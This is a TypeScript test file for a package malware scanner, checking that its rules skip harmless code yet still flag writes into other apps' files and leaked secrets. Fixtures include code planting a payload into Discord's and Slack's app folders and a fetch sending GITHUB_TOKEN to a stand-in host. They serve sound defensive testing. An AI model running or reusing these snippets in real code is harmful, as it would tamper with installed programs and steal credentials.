import type { AgentFinding, AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import { javascriptFacts } from './code/javascript/javascript-facts.js';
import { pythonFacts } from './code/python-facts.js';
import { SECRET_ENV_NAME } from './code/code-facts.js';
import { analyzePackage } from './packages/analyze-package.js';
import { foreignProgramWrite } from './packages/foreign-program-write.js';

// Issue 24: false alarms the packages eval found in the workspace's own real packages (vitest
// 4.1.12 and envinfo 7.21.0 BLOCKed, jsonparse 1.3.1 and @modelcontextprotocol/sdk 1.32.2 WARNed),
// each class checked beside the malicious shape its rule was written for.

const scanPackage = async (files: Record<string, string>): Promise<AgentResult> => analyzePackage({ dir: await dirWith(files), track: 'packages', bundleHash: null });
const titled = (r: AgentResult, title: RegExp): AgentFinding[] => r.findings.filter((f) => title.test(f.title));
const manifest = (main: string) => JSON.stringify({ name: 'some-lib', version: '1.0.0', main });

describe('writes into another program: string methods named like file moves, and `.config` inside a pattern', () => {
  const js = (text: string) => foreignProgramWrite(javascriptFacts(text), text, 'some-lib');
  it("does not read a string's replace() as a file move, nor `\\.config\\.` in a regular expression as a folder", () => {
    expect(js("const fs = require('fs');\nconst CONFIG = /^vite(?:st)?\\.config\\./;\nmessage = message.replace(/__vi_import_\\d+__\\./g, '');\nfs.promises.writeFile(cachePath, JSON.stringify(r));\nconst f = 'setup.js';\n")).toBeNull();
    expect(js("const os = require('os');\nconst dest = `${os.homedir()}/AppData/Roaming/x`;\nconst p = 'main.js';\nlist.copy(dest);\nplayer.move(dest, p);\n")).toBeNull();
  });
  it('still finds moves and copies on file-system modules, renames on any receiver, and Python path moves', () => {
    expect(js("const fse = require('fs-extra');\nconst path = require('path');\nfse.move(tmp, path.join(process.env.APPDATA, 'Discord', 'modules', 'core', 'index.js'));\n")?.detail).toMatch(/application/);
    expect(js("const fs = require('fs');\nconst path = require('path');\nfs.rename(tmp, path.join(home, '.config', 'Code', 'extension.js'), cb);\n")?.detail).toMatch(/application/);
    expect(js("const fsp = require('node:fs/promises');\nconst path = require('path');\nawait fsp.rename(tmp, path.join(home, '.vscode', 'extensions', 'x', 'out.js'));\n")?.detail).toMatch(/editor/);
    const py = 'import shutil, os\nfrom pathlib import Path\nPath(tmp).replace(os.path.join(os.environ["APPDATA"], "Slack", "app", "main.js"))\n';
    expect(foreignProgramWrite(pythonFacts(py), py, 'lib')?.detail).toMatch(/application/);
    const sh = 'import shutil, os\nshutil.copy(payload, os.path.join(os.environ["LOCALAPPDATA"], "Discord", "app", "index.js"))\n';
    expect(foreignProgramWrite(pythonFacts(sh), sh, 'lib')?.detail).toMatch(/application/);
  });
  it('still reads `.config` as a folder however a path spells it', () => {
    expect(js("const fs = require('fs');\nconst path = require('path');\nfs.writeFileSync(path.join(os.homedir(), '.config', 'discord', '0.0.1', 'modules', 'index.js'), s);\n")?.detail).toMatch(/application/);
    const py = 'import os\nwith open(os.path.expanduser("~/.config/discord/0.0.1/modules/index.js"), "a") as f:\n    f.write(p)\n';
    expect(foreignProgramWrite(pythonFacts(py), py, 'lib')?.detail).toMatch(/application/);
  });
});

describe('an endless loop in a benchmark or example script shipped beside the code', () => {
  const loop = "let n = 0;\nwhile (true) {\n  n++;\n}\n";
  it('is LOW in bench.js, benchmark-parse.js and example.js at the package root', async () => {
    for (const name of ['bench.js', 'benchmark-parse.js', 'example.js']) {
      const r = await scanPackage({ 'package.json': manifest('index.js'), 'index.js': 'module.exports = 1;\n', [name]: loop });
      expect(titled(r, /Endless loop/).map((f) => f.severity)).toEqual(['LOW']);
      expect(r.verdict).toBe('ALLOW');
    }
  });
  it('is still HIGH in the code a consumer loads (colors 2022)', async () => {
    const r = await scanPackage({ 'package.json': manifest('lib/index.js'), 'lib/index.js': loop });
    expect(titled(r, /Endless loop/).map((f) => f.severity)).toEqual(['HIGH']);
    const benchy = await scanPackage({ 'package.json': manifest('benchmarks.js'), 'benchmarks.js': 'module.exports = 1;\n', 'lib/benchmark.js': 'x' , 'lib/index.js': loop });
    expect(titled(benchy, /Endless loop/).map((f) => f.severity)).toEqual(['HIGH']);
  });
});

describe('secret environment names', () => {
  it('does not count a name that ends by saying it holds a port, host, address, region or mode', () => {
    for (const name of ['MCP_AUTH_PORT', 'AUTH_HOST', 'GITHUB_API_URL', 'AWS_REGION', 'AUTH_MODE', 'NPM_CONFIG_TIMEOUT', 'OAUTH_ENDPOINT']) expect(SECRET_ENV_NAME.test(name)).toBe(false);
  });
  it('still counts credentials, whatever else the name says', () => {
    for (const name of ['GITHUB_TOKEN', 'NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'AWS_ACCESS_KEY_ID', 'OPENAI_API_KEY', 'AUTH_TOKEN', 'DB_PASSWORD', 'PORT_TOKEN', 'HOST_SECRET']) expect(SECRET_ENV_NAME.test(name)).toBe(true);
  });
  it('does not report a port sent in a local address, and still reports a token sent to another service', async () => {
    const port = await scanPackage({ 'package.json': manifest('index.js'), 'index.js': "const AUTH_PORT = process.env.MCP_AUTH_PORT;\nfetch(`https://github.com/login?port=${process.env.MCP_AUTH_PORT}`);\n" });
    expect(titled(port, /secret environment variable/)).toEqual([]);
    const token = await scanPackage({ 'package.json': manifest('index.js'), 'index.js': "fetch('https://collect.example.net/t', { method: 'POST', body: process.env.GITHUB_TOKEN });\n" });
    expect(titled(token, /secret environment variable/).length).toBeGreaterThan(0);
  });
});
